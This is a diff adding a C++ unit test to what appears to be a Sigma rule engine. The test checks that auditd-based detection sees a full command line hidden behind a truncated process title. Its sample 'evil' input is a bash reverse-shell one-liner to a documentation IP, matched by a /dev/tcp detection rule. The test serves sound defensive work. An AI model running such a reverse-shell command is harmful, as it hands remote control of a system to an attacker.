@@ -110,6 +110,35 @@ TEST(BuiltinPipelines, AuditdSeesProcessesFilesAndConnectionsOfLinux) {
           kCurl}});
 }
 
+// The kernel keeps 128 bytes of a process title; the arguments are whole.
+TEST(BuiltinPipelines, AuditdSeesArgumentsBehindTheCutProcessTitle) {
+  const std::string padding(300, 'A');
+  std::string title;
+  for (const char c : (std::string("bash\0-c\0: ", 10) + padding).substr(0, 128)) title += fmt::format("{:02X}", c);
+  const std::string_view start =
+      "type=SYSCALL msg=audit(1700000000.100:41): arch=c000003e syscall=59 success=yes a0=1 a1=2 "
+      "exe=\"/usr/bin/bash\"\n";
+  const auto with_script = [&](std::string_view script) {
+    std::string hex;
+    for (const char c : ": " + padding + "; " + std::string(script)) hex += fmt::format("{:02X}", c);
+    const std::size_t half = 400;
+    return fmt::format(
+        "{}type=EXECVE msg=audit(1700000000.100:41): argc=3 a0=\"bash\" a1=\"-c\" a2_len={} a2[0]={}\n"
+        "type=EXECVE msg=audit(1700000000.100:41): a2[1]={}\n"
+        "type=PROCTITLE msg=audit(1700000000.100:41): proctitle={}\n",
+        start, hex.size(), hex.substr(0, half), hex.substr(half), title);
+  };
+  const std::string evil = with_script("bash -i >& /dev/tcp/198.51.100.7/443");
+  const std::string harmless = with_script("true");
+  constexpr std::string_view kRule = "s: {CommandLine|contains: 'bash -i >& /dev/tcp/'}, condition: s";
+  constexpr std::string_view kWhole =
+      "s: {CommandLine|startswith: 'bash -c : AAA', CommandLine|endswith: '/443'}, condition: s";
+  check({{"product: linux, category: process_creation", kRule, "auditd", evil, harmless},
+         {"product: linux, category: process_creation", kWhole, "auditd", evil, harmless}});
+  const std::string untitled = evil.substr(0, evil.find("type=PROCTITLE"));
+  check({{"product: linux, category: process_creation", kRule, "auditd", untitled, harmless}});
+}
+
 TEST(BuiltinPipelines, AuditdLeavesRulesOnTheParentToOtherLogs) {
   const sigma::VariantSet variants =
       variants_of("product: linux, category: process_creation",
